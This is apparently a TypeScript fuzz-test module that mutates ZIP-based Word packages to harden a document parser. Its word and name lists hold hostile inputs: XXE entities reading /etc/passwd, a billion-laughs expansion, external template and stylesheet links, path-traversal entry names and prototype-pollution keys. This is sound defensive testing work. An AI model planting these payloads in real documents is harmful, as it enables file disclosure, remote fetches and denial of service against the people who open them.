import type { Dice } from './dice.ts';
import { type LooseEntry, looseZip } from './loose-zip.ts';
import { mutatedBytes } from './mutate-bytes.ts';

const names: readonly string[] = [
  ...['../../evil', '/etc/passwd', 'C:\\evil.txt', '\\\\host\\share', 'a/../b', './a', 'a//b', ''],
  ...['word/vbaProject.bin', 'word/embeddings/a.bin', 'word/activeX/a.xml', 'customUI/a.xml'],
  ...[
    'word/document.xml',
    'WORD/DOCUMENT.XML',
    '[Content_Types].xml',
    'manifest.json',
    '__proto__',
  ],
  ...['constructor', 'a\u0000.xml', 'word/\u202egnp.xml', 'x'.repeat(60_000), 'word/media/a.svg'],
];

/** What XML readers and Word have been led by. */
const words: readonly string[] = [
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
  '&b;',
  '<?xml-stylesheet href="http://h/x.xsl"?>',
  '<![CDATA[<w:p>]]>',
  '<Relationship Id="z" Type="a/attachedTemplate" Target="http://h/x.dotm" TargetMode="External"/>',
  '<Relationship Id="z" Type="a/image" Target="file:///etc/passwd" TargetMode="External"/>',
  '<Relationship Id="z" Type="a/image" Target="../../../etc/passwd"/>',
  '<w:instrText>INCLUDETEXT "c:\\a"</w:instrText>',
  '<w:altChunk r:id="z"/>',
  '<w:p>{{document}}</w:p>',
  '<w:p><w:r><w:t>{{__proto__}}{{constructor}}{{toString}}</w:t></w:r></w:p>',
  '<w:p/>',
  '</w:body>',
  '<w:sectPr><w:pgSz w:w="999999" w:h="-1"/></w:sectPr>',
  '<w:style w:styleId="Heading1" w:type="table"><w:name w:val="Normal"/></w:style>',
];

/**
 * A package after one change to what is in it: a part, a name, a number that it
 * tells of itself; or after one to its bytes, where the package itself breaks.
 */
export function mutatedPackage(entries: readonly LooseEntry[], dice: Dice): Uint8Array {
  const at = dice.below(entries.length);
  const entry = entries[at] ?? { name: 'a', bytes: Uint8Array.of() };
  const others = entries.filter((_, other) => other !== at);
  const instead = (...changed: readonly LooseEntry[]) => looseZip([...others, ...changed]);
  switch (dice.below(10)) {
    case 0:
      return mutatedBytes([looseZip(entries)], dice);
    case 1:
      return instead({ ...entry, name: dice.oneOf(names) });
    case 2:
      return instead();
    case 3:
      return instead(entry, { name: dice.oneOf(names), bytes: dice.oneOf(entries).bytes });
    case 4:
      return instead(lying(entry, dice));
    case 5:
      return instead({
        name: entry.name,
        bytes: Buffer.alloc(1 << (10 + dice.below(13))),
        method: 8,
      });
    case 6:
      return looseZip(entries, dice.oneOf([0, 1, entries.length + 1, 0xffff]));
    case 7:
    case 8:
      return instead({ ...entry, bytes: withWord(entry.bytes, dice) });
    default:
      return instead({ ...entry, bytes: mutatedBytes([entry.bytes], dice) });
  }
}

function lying(entry: LooseEntry, dice: Dice): LooseEntry {
  const number = dice.oneOf([0, 1, entry.bytes.length + 1, 0x7fffffff, 0xffffffff]);
  const field = dice.oneOf(['size', 'packedSize', 'crc', 'from', 'flags'] as const);
  return { ...entry, [field]: field === 'flags' ? dice.below(0x10000) : number };
}

/** Between two elements, where most is still well-formed afterwards. */
function withWord(bytes: Uint8Array, dice: Dice): Uint8Array {
  const text = Buffer.from(bytes).toString('utf8');
  const places = [...text.matchAll(/></g)].map(({ index }) => index + 1);
  const place = places.length === 0 ? 0 : dice.oneOf(places);
  return Buffer.from(text.slice(0, place) + dice.oneOf(words) + text.slice(place));
}
